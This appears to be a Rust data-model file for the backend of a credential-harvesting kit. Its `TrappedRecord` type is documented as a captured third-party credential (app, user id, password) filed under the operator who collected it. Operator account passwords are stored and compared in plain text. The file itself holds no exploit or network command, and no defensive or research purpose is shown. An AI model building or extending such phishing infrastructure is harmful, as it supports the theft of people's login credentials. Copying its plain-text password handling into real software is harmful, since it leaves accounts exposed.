use serde::{Deserialize, Serialize};
use sqlx::any::AnyRow;
use sqlx::{FromRow, Row};

/// Registered operator account.
///
/// The password is stored and compared in plain text, exactly as written by
/// the registration flow. It is not a security boundary.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq, FromRow)]
#[sqlx(rename_all = "UPPERCASE")]
pub struct User {
    pub uid: String,
    pub email: String,
    pub password: String,
}

/// A captured third-party credential, filed under the operator (`owner`)
/// that collected it.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq, FromRow)]
#[sqlx(rename_all = "UPPERCASE")]
pub struct TrappedRecord {
    pub owner: String,
    pub app: String,
    pub uid: String,
    pub password: String,
}

#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
pub struct FeedbackMessage {
    pub uid: String,
    pub name: String,
    pub email: String,
    pub msg: String,
}

impl<'r> FromRow<'r, AnyRow> for FeedbackMessage {
    fn from_row(row: &'r AnyRow) -> Result<Self, sqlx::Error> {
        Ok(Self {
            uid: row.try_get("UID")?,
            name: row.try_get("NAME")?,
            email: row.try_get("EMAIL")?,
            msg: text_column(row, "MSG")?,
        })
    }
}

/// MySQL reports `TEXT` columns as blobs through the `Any` driver while
/// SQLite reports text, so accept either and require valid UTF-8.
fn text_column(row: &AnyRow, column: &str) -> Result<String, sqlx::Error> {
    match row.try_get::<String, _>(column) {
        Err(sqlx::Error::ColumnDecode { .. }) => {
            let bytes: Vec<u8> = row.try_get(column)?;
            String::from_utf8(bytes).map_err(|e| sqlx::Error::Decode(Box::new(e)))
        }
        other => other,
    }
}

/// Detail rows plus the table's row count for the same filter.
///
/// Both come from one read transaction. Under MySQL's default REPEATABLE READ
/// that is a single snapshot; at READ COMMITTED or weaker a concurrent insert
/// can land between the two reads and `count` may differ from `rows.len()`.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct Listing<T> {
    pub rows: Vec<T>,
    pub count: u64,
}

impl<T> Listing<T> {
    pub fn is_empty(&self) -> bool {
        self.rows.is_empty()
    }
}
